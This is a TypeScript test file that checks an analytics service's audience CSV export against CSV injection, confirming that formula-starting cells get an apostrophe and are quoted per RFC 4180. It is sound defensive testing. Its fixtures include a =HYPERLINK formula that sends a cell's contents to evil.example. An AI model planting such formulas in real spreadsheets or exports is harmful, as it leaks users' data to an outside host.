/**
 * The CSV export is opened in spreadsheets, so a cell a user controls (a user id, a custom
 * identity) must never run as a formula (CSV injection): cells starting with = + - @ tab or CR
 * get a leading apostrophe, and RFC 4180 quoting keeps commas, quotes and line breaks inside.
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { identify } from '../helpers/events.js';
import { ADMIN_TOKEN, type TestCollector } from '../helpers/test-collector.js';
import { HOUR, send, startAnalyticsCollector } from '../funnels/funnel-fixtures.js';

let c: TestCollector;
const now = Date.now();
const admin = { authorization: `Bearer ${ADMIN_TOKEN}` };
const bi = { en: 'signed in today', zh: '今日登录' };
const HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1,"open")';

beforeAll(async () => {
  c = await startAnalyticsCollector();
  const users: [string, Record<string, string>][] = [
    [HYPERLINK, {}],
    ['+86 138', {}],
    ['-1+2', {}],
    ['@SUM(A1:A9)', {}],
    ['\tcmd', {}],
    ['\rcmd', {}],
    ['plain', { crm: '=1+2' }],
    ['safe, "quoted"', { crm: 'x-1' }],
  ];
  await send(c, users.map(([user, ids], i) => identify(now - HOUR + i, user, ids, { consent: true }, { anonymousId: `v${i}`, sessionId: `s-v${i}` })));
  const res = await c.post('/v1/audiences', {
    site: 'shop', id: 'signed', name: bi, description: bi, expression: { type: 'event', event: 'identify', days: 1 },
    activation: { identities: ['crm'] },
  }, admin);
  expect(res.status, JSON.stringify(res.body)).toBe(201);
  expect(res.body.refresh.members).toBe(8);
});
afterAll(async () => { await c.stop(); });

describe('CSV export', () => {
  it('neutralises formula cells and quotes per RFC 4180', async () => {
    const res = await fetch(`${c.url}/v1/audiences/signed/export.csv?site=shop`, { headers: admin });
    expect(res.status).toBe(200);
    expect(res.headers.get('content-disposition')).toMatch(/^attachment; filename="?signed\.csv"?$/);
    // Rows by person id in byte order: \t (09) < \r (0D) < + (2B) < - (2D) < = (3D) < @ (40)
    // < p (70) < s (73). Each identified person's id is the user id, so it fills both columns.
    // A cell gets ' in front when it starts with = + - @ \t \r; then it is quoted when it holds
    // " , CR or LF, with " doubled.
    const expected = [
      'person_id,user_id,crm',
      "'\tcmd,'\tcmd,",
      `"'\rcmd","'\rcmd",`,
      "'+86 138,'+86 138,",
      "'-1+2,'-1+2,",
      `"'=HYPERLINK(""http://evil.example/?d=""&A1,""open"")","'=HYPERLINK(""http://evil.example/?d=""&A1,""open"")",`,
      "'@SUM(A1:A9),'@SUM(A1:A9),",
      "plain,plain,'=1+2",
      // A - inside a cell is harmless; only the first character matters.
      '"safe, ""quoted""","safe, ""quoted""",x-1',
    ].join('\r\n') + '\r\n';
    expect(await res.text()).toBe(expected);
  });
});
